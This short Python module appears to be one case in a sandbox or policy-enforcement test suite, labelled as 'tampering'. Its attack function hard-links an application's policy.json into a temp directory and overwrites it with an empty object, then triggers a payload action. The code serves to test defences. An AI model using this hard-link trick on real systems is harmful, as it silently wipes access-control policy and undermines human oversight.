"""The policy is written through another link to the file."""
CATEGORY = "tampering"
REACH = "net"
POLICIES = ("allow", "baseline")
RUNS = 2

import os

from . import payload


def attack():
    path = payload.ROOT + "/app/policy.json"
    try:
        os.link(path, payload.ROOT + "/tmp/policy")
        with open(payload.ROOT + "/tmp/policy", "w") as file:
            file.write("{}")
    finally:
        payload.act()
